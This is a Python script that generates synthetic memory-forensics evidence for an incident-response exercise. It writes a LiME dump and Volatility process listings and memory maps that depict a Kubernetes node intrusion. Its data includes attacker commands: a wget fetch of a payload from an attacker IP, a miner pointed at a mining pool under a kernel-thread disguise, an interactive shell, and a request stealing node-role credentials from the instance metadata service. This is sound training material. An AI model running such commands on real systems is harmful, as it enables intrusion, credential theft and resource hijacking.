#!/usr/bin/env python3
"""Writes the training incident's memory evidence (synthetic, written by us in the real formats):

  incident-1/memory/ip-192-168-23-107.lime (+ .sha256, LiME's digest= sidecar): a small LiME dump (format=lime:
      a 32-byte header per range, end address inclusive) with the attacker's strings planted in its ranges;
  incident-1/memory/volatility/: the node's process tree as Volatility 3 linux.pslist (text), linux.psaux (text),
      linux.pstree (-r json) and linux.psaux (-r csv) print it, and as Volatility 2 linux_pstree prints it;
  incident-1/memory/maps/: the memory maps of the suspicious processes (Volatility 3 linux.proc.Maps, text, and
      Volatility 2 linux_proc_maps).

The tree agrees with the node's disk (incident-1/node/*.tar.gz) and the audit log: the pod sandbox 5d9a0b7c… and the
sysdiag container 8e1f2a3b… under one containerd-shim; the intruder's interactive exec (06:23:58, PID 5120) running the
miner script and the setuid shell the dropper exec (06:23:31) left on disk; then an escape to the host: a shell under
PID 1, a miner named like a kernel thread, and the node role's credentials read from the instance metadata service.
The memory was captured at 06:41 (the miner script's current `sleep 60` started 06:40:01).
Run from anywhere:  python3 sample-data/generators/incident-1-memory.py
"""
import csv, hashlib, io, json, os, struct

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "incident-1", "memory")
SANDBOX = "5d9a0b7c1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b"
SHIM_ARGS = f"/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id {SANDBOX} -address /run/containerd/containerd.sock"

# pid, ppid, comm (15 chars, as task_struct.comm), argv (None: kernel thread), uid, start (UTC)
PROCESSES = [
    (1, 0, "systemd", "/usr/lib/systemd/systemd --switched-root --system --deserialize 21", 0, "2026-11-29 06:01:02.114000"),
    (2, 0, "kthreadd", None, 0, "2026-11-29 06:01:02.114000"),
    (3, 2, "rcu_gp", None, 0, "2026-11-29 06:01:02.115000"),
    (9, 2, "kworker/0:1H", None, 0, "2026-11-29 06:01:02.121000"),
    (14, 2, "ksoftirqd/0", None, 0, "2026-11-29 06:01:02.122000"),
    (412, 1, "systemd-journal", "/usr/lib/systemd/systemd-journald", 0, "2026-11-29 06:01:04.301000"),
    (655, 1, "chronyd", "/usr/sbin/chronyd -F 2", 996, "2026-11-29 06:01:05.020000"),
    (830, 1, "containerd", "/usr/bin/containerd", 0, "2026-11-29 06:01:06.440000"),
    (905, 1, "kubelet", "/usr/bin/kubelet --config /etc/kubernetes/kubelet/kubelet-config.json --kubeconfig /var/lib/kubelet/kubeconfig "
                        "--container-runtime-endpoint unix:///run/containerd/containerd.sock --node-ip=192.168.23.107", 0, "2026-11-29 06:01:07.810000"),
    (1010, 1, "amazon-ssm-agen", "/usr/bin/amazon-ssm-agent", 0, "2026-11-29 06:01:08.002000"),
    (4711, 1, "containerd-shim", SHIM_ARGS, 0, "2026-11-29 06:23:30.951000"),
    (4730, 4711, "sleep", "/bin/sleep 86400", 0, "2026-11-29 06:23:30.981000"),
    (4790, 4711, "sh", "/bin/sh -c sleep 86400", 0, "2026-11-29 06:23:31.204000"),
    (4801, 4790, "sleep", "sleep 86400", 0, "2026-11-29 06:23:31.209000"),
    (5120, 4711, "sh", "sh", 0, "2026-11-29 06:23:58.702000"),
    (5188, 5120, "sh", "/bin/sh /tmp/.x/miner.sh", 0, "2026-11-29 06:24:00.315000"),
    (5190, 5188, "sleep", "sleep 60", 0, "2026-11-29 06:40:01.104000"),
    (5201, 5120, "sh", "/tmp/.x/sh -p", 0, "2026-11-29 06:24:01.120000"),
    (5230, 5201, "wget", "wget -qO- http://203.0.113.50/drop", 0, "2026-11-29 06:24:01.950000"),
    (5302, 1, "sh", "sh -i", 0, "2026-11-29 06:24:02.770000"),
    (5310, 1, "kworker/0:2", "/dev/shm/kworker/0:2 --pool stratum+tcp://203.0.113.50:3333 --user sysdiag-rig-07", 0, "2026-11-29 06:24:05.012000"),
]
OFFSET_BASE = 0xFFFF9E3B40000000

def offset(pid): return OFFSET_BASE + pid * 0x2A00

def children(pid): return [p for p in PROCESSES if p[1] == pid and p[0] != pid]

def walk(pid=0, depth=0):
    for p in sorted(children(pid)):
        yield p, depth
        yield from walk(p[0], depth + 1)

def args_text(p): return p[3] if p[3] is not None else f"[{p[2]}]"

def write(name, text):
    with open(os.path.join(OUT, "volatility", name), "w", newline="\n") as f:
        f.write(text)

def vol3_text(header, rows, banner=True):
    lines = (["Volatility 3 Framework 2.11.0", "Progress:  100.00\t\tStacking attempts finished"] if banner else []) + ["", "\t".join(header)]
    lines += ["\t".join(str(c) for c in r) for r in rows]
    return "\n".join(lines) + "\n"

def main():
    os.makedirs(os.path.join(OUT, "volatility"), exist_ok=True)
    # linux.pslist (PsList 4.1.1 columns), quick renderer
    write("linux.pslist.txt", vol3_text(
        ["OFFSET (V)", "PID", "TID", "PPID", "COMM", "UID", "GID", "EUID", "EGID", "CREATION TIME", "File output"],
        [[hex(offset(p[0])), p[0], p[0], p[1], p[2], p[4], p[4], p[4], p[4], p[5] + " UTC", "Disabled"] for p in sorted(PROCESSES)]))
    # linux.psaux, quick renderer
    write("linux.psaux.txt", vol3_text(["PID", "PPID", "COMM", "ARGS"], [[p[0], p[1], p[2], args_text(p)] for p in sorted(PROCESSES)]))
    # linux.psaux -r csv (TreeDepth first; banner goes to stderr for structured renderers)
    buffer = io.StringIO()
    w = csv.writer(buffer, escapechar="\\", lineterminator="\n")
    w.writerow(["TreeDepth", "PID", "PPID", "COMM", "ARGS"])
    for p in sorted(PROCESSES):
        w.writerow([0, p[0], p[1], p[2], args_text(p)])
    write("linux.psaux.csv", buffer.getvalue())
    # linux.pstree -r json: nested by __children, Hex columns as integers, keys sorted, indent 2
    def node(p):
        return {"COMM": p[2], "OFFSET (V)": offset(p[0]), "PID": p[0], "PPID": p[1], "TID": p[0],
                "__children": [node(c) for c in sorted(children(p[0]))]}
    write("linux.pstree.json", json.dumps([node(p) for p in sorted(children(0))], indent=2, sort_keys=True) + "\n")
    # Volatility 2 linux_pstree: "." per level before the name, kernel threads as [comm]
    lines = ["Volatility Foundation Volatility Framework 2.6.1", "{0:20s} {1:15s} {2:15s}".format("Name", "Pid", "Uid")]
    for p, depth in walk():
        name = "." * depth + (p[2] if p[3] is not None else f"[{p[2]}]")
        lines.append("{0:20s} {1:15s} {2:15s}".format(name, str(p[0]), str(p[4])).rstrip())
    write("linux_pstree.txt", "\n".join(lines) + "\n")

    # Memory maps of the dropped miner script's shell, the setuid shell and the disguised miner on the host.
    busybox = [(0x400000, 0x45C000, "r-x", 0x0, 1234567, "/bin/busybox"), (0x65B000, 0x65F000, "rw-", 0x5B000, 1234567, "/bin/busybox"),
               (0x1A2E000, 0x1A4F000, "rw-", 0x0, 0, "[heap]"), (0x7FFD3C1E5000, 0x7FFD3C206000, "rw-", 0x0, 0, "[stack]")]
    miner = [(0x400000, 0x6F2000, "r-x", 0x0, 48213, "/dev/shm/kworker/0:2 (deleted)"), (0x8F1000, 0x8F9000, "rw-", 0x2F1000, 48213, "/dev/shm/kworker/0:2 (deleted)"),
             (0x7F3A10000000, 0x7F3A10021000, "rwx", 0x0, 0, "Anonymous Mapping"), (0x7FFC88E10000, 0x7FFC88E31000, "rw-", 0x0, 0, "[stack]")]
    maps = [(5188, "sh", r) for r in busybox] + [(5201, "sh", r) for r in busybox] + [(5310, "kworker/0:2", r) for r in miner]
    os.makedirs(os.path.join(OUT, "maps"), exist_ok=True)
    rows = [[pid, name, hex(r[0]), hex(r[1]), r[2], hex(r[3]), 0 if r[4] == 0 else 259, 0 if r[4] == 0 else 1, r[4], r[5], "Disabled"] for pid, name, r in maps]
    with open(os.path.join(OUT, "maps", "linux.proc.Maps.txt"), "w", newline="\n") as f:
        f.write(vol3_text(["PID", "Process", "Start", "End", "Flags", "PgOff", "Major", "Minor", "Inode", "File Path", "File output"], rows))
    lines = ["Volatility Foundation Volatility Framework 2.6.1",
             "Offset             Pid      Name                 Start              End                Flags               Pgoff Major  Minor  Inode      File Path",
             "------------------ -------- -------------------- ------------------ ------------------ ------ ------------------ ------ ------ ---------- ---------"]
    for pid, name, r in maps:
        if pid == 5310:
            lines.append(f"0x{offset(pid):x} {pid:8d} {name:20s} 0x{r[0]:016x} 0x{r[1]:016x} {r[2]:6s} 0x{r[3]:016x} {259 if r[4] else 0:6d} {1 if r[4] else 0:6d} {r[4]:10d} {'' if r[5] == 'Anonymous Mapping' else r[5]}".rstrip())
    with open(os.path.join(OUT, "maps", "linux_proc_maps.txt"), "w", newline="\n") as f:
        f.write("\n".join(lines) + "\n")

    # The LiME dump: three "System RAM" ranges, mostly zeros, with the intrusion's strings where processes had them.
    ranges = [(0x1000, 0x9FFF), (0x100000, 0x13FFFF), (0x7FF00000, 0x7FF0FFFF)]
    planted = {
        0: [(0x2400, b"Linux version 6.1.112-124.190.amzn2023.x86_64 (mockbuild@ip-10-0-51-133) #1 SMP\x00")],
        1: [(0x00410, b"AWS_ACCESS_KEY_ID=AKIA5DEVINTERN7EXMPL\x00AWS_DEFAULT_REGION=us-west-2\x00"),
            (0x08000, b"io.kubernetes.pod.name=sysdiag\x00io.kubernetes.pod.namespace=default\x00"),
            (0x10020, b"#!/bin/sh\nwhile true; do sleep 60; done\n\x00/tmp/.x/miner.sh\x00"),
            (0x1FFF0, b"wget -qO- http://203.0.113.50/drop\x00"),
            (0x2A000, b"GET /drop HTTP/1.1\r\nHost: 203.0.113.50\r\nUser-Agent: Wget\r\n\r\n"),
            (0x33000, b"kubectl/v1.31.2 (linux/amd64) from 198.51.100.23\x00"),
            # The host shell read the node role's credentials from the instance metadata service (used at 06:25 from 203.0.113.50).
            (0x3A000, b"GET /latest/meta-data/iam/security-credentials/eksctl-eksworkshop-eksctl-nodegroup-ng-1-NodeInstanceRole HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"),
            (0x3A200, b'{"Code":"Success","LastUpdated":"2026-11-29T05:58:12Z","Type":"AWS-HMAC","AccessKeyId":"ASIA5NODEROLE7STOLEN","Expiration":"2026-11-29T12:33:40Z"}\x00')],
        2: [(0x0100, b"--pool stratum+tcp://203.0.113.50:3333 --user sysdiag-rig-07\x00"),
            (0x4000, b"resolv: update.example.net A 203.0.113.50\x00"),
            (0xF000, b"/dev/shm/kworker/0:2\x00")],
    }
    dump = bytearray()
    for i, (start, end) in enumerate(ranges):
        data = bytearray(end - start + 1)
        for at, text in planted.get(i, []):
            data[at:at + len(text)] = text
        dump += struct.pack("<IIQQQ", 0x4C694D45, 1, start, end, 0) + data
    path = os.path.join(OUT, "ip-192-168-23-107.lime")
    with open(path, "wb") as f:
        f.write(dump)
    with open(path + ".sha256", "w") as f:
        f.write(hashlib.sha256(dump).hexdigest() + "\n")

if __name__ == "__main__":
    main()
